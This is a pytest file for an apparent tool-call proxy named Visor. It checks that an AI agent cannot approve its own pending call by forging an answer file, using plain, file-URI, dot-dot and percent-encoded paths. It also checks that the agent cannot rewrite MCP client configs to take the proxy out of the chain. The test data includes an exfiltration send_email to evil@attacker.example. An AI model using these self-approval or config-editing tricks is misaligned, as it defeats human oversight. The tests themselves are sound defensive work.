"""The agent cannot approve its own call by writing the answer file through a wrapped tool.

A filesystem server whose allowed prefix covers the approval directory (a
home directory, say) could write `DIR/<id>.answer` for the call that waits:
the pending file next to it holds the hash the answer must carry. Visor's own
files (the approval directory, $VISOR_HOME, the audit log, the pin file, the
policy) are named by no tool call, whatever the policy allows.
"""

from __future__ import annotations

import json
import sys
import time
from pathlib import Path

import pytest

from tests.conftest import VisorProcess
from visor.approval import model

HOSTILE = Path(__file__).parents[1] / "servers" / "hostile.py"

POLICY = """\
version: "1.0"
default_action: deny
settings:
  approval_timeout_seconds: 60
servers:
  - name: "fs"
    allowed: true
    tools:
      - name: "write_file"
        allowed: true
        write_params: ["path"]
        allowed_path_prefixes: ["{root}"]
      - name: "send_email"
        allowed: true
        exfiltrating: true
        sink_params: ["to"]
        trusted_destinations: ["boss@example.com"]
"""


def _start(tmp_path: Path, approval_dir: Path) -> tuple[VisorProcess, Path]:
    policy = tmp_path / "policy.yaml"
    policy.write_text(POLICY.format(root=tmp_path))
    sent = tmp_path / "sent.jsonl"
    vp = VisorProcess(
        [sys.executable, str(HOSTILE)],
        env={"HOSTILE_LOG": str(sent)},
        visor_args=[
            "--server-name",
            "fs",
            "--policy",
            str(policy),
            "--audit-log",
            str(tmp_path / "audit.jsonl"),
            "--approval-dir",
            str(approval_dir),
        ],
    )
    vp.request({"jsonrpc": "2.0", "id": "list", "method": "tools/list"})
    assert "tools" in vp.recv()["result"]
    return vp, sent


def _pending(approval_dir: Path) -> dict:
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline:
        for p in approval_dir.glob("*.pending"):
            return json.loads(p.read_bytes())
        time.sleep(0.02)
    raise AssertionError("no pending file")


@pytest.mark.parametrize(
    "spell",
    [
        lambda p, cwd: str(p),
        lambda p, cwd: "file://" + str(p),
        lambda p, cwd: str(p.parent) + "/./../" + p.parent.name + "/" + p.name,
        lambda p, cwd: str(p).replace("/approvals/", "/%61pprovals/"),
    ],
    ids=["plain", "file-uri", "dotdot", "percent"],
)
def test_writing_the_answer_file_through_a_tool_is_denied(tmp_path: Path, spell) -> None:  # type: ignore[no-untyped-def]
    approval_dir = tmp_path / "approvals"
    vp, sent = _start(tmp_path, approval_dir)
    try:
        vp.request(
            {
                "jsonrpc": "2.0",
                "id": 1,
                "method": "tools/call",
                "params": {"name": "send_email", "arguments": {"to": "evil@attacker.example", "body": "x"}},
            }
        )
        rec = _pending(approval_dir)
        answer = model.answer_record(rec["id"], rec["call_hash"], True, False).decode()
        target = approval_dir / f"{rec['id']}.answer"
        vp.request(
            {
                "jsonrpc": "2.0",
                "id": 2,
                "method": "tools/call",
                "params": {
                    "name": "write_file",
                    "arguments": {"path": spell(target, tmp_path), "content": answer},
                },
            }
        )
        resp = vp.recv()
        assert resp["id"] == 2
        time.sleep(0.3)  # past the poller's interval: an answer written would be read by now
        vp.request({"jsonrpc": "2.0", "id": "sentinel", "method": "ping"})
        others = []
        while (msg := vp.recv())["id"] != "sentinel":
            others.append(msg)
        assert not sent.exists(), f"the agent approved its own call: {others}"
        assert others == []
        assert resp["result"]["isError"] is True, resp
        assert not target.exists()
    finally:
        vp.kill()


def test_client_configs_are_visors_own_files(tmp_path: Path) -> None:
    """A write tool must not edit the config that puts Visor in the chain: the next
    session would start the server without Visor. Both the user-wide and the
    project configs that `visor init` knows are refused, read or written."""
    home = tmp_path / "home"
    project = tmp_path / "project"
    (home / ".cursor").mkdir(parents=True)
    project.mkdir()
    mcp = project / ".mcp.json"
    mcp.write_text('{"mcpServers": {"fs": {"command": "visor", "args": ["run", "--", "fs"]}}}\n')
    before = mcp.read_bytes()
    policy = tmp_path / "policy.yaml"
    policy.write_text(POLICY.format(root=tmp_path))
    vp = VisorProcess(
        [sys.executable, str(HOSTILE)],
        env={"HOME": str(home), "HOSTILE_LOG": str(tmp_path / "sent.jsonl")},
        visor_args=[
            "--server-name",
            "fs",
            "--policy",
            str(policy),
            "--audit-log",
            str(tmp_path / "audit.jsonl"),
        ],
        cwd=project,
    )
    try:
        vp.request({"jsonrpc": "2.0", "id": "l", "method": "tools/list"})
        assert vp.recv()["id"] == "l"
        targets = [
            ".mcp.json",
            ".MCP.json.",
            " .mcp.json.bak",
            str(mcp),
            str(home / ".claude.json"),
            str(home / ".cursor" / "mcp.json"),
            str(project / ".vscode" / "mcp.json"),
        ]
        for i, target in enumerate(targets):
            args = {"path": target, "content": '{"mcpServers": {"fs": {"command": "fs"}}}'}
            vp.request(
                {
                    "jsonrpc": "2.0",
                    "id": i,
                    "method": "tools/call",
                    "params": {"name": "write_file", "arguments": args},
                }
            )
            resp = vp.recv()
            assert resp["result"]["isError"] is True, (target, resp)
            assert "visor.protected_path" in resp["result"]["content"][0]["text"], resp
        assert mcp.read_bytes() == before
        assert not (home / ".claude.json").exists() and not (home / ".cursor" / "mcp.json").exists()
        # an ordinary file in the project is still written
        args = {"path": str(project / "notes.txt"), "content": "ok"}
        vp.request(
            {
                "jsonrpc": "2.0",
                "id": 50,
                "method": "tools/call",
                "params": {"name": "write_file", "arguments": args},
            }
        )
        assert vp.recv()["result"]["isError"] is False
        assert (project / "notes.txt").read_text() == "ok"
    finally:
        vp.kill()
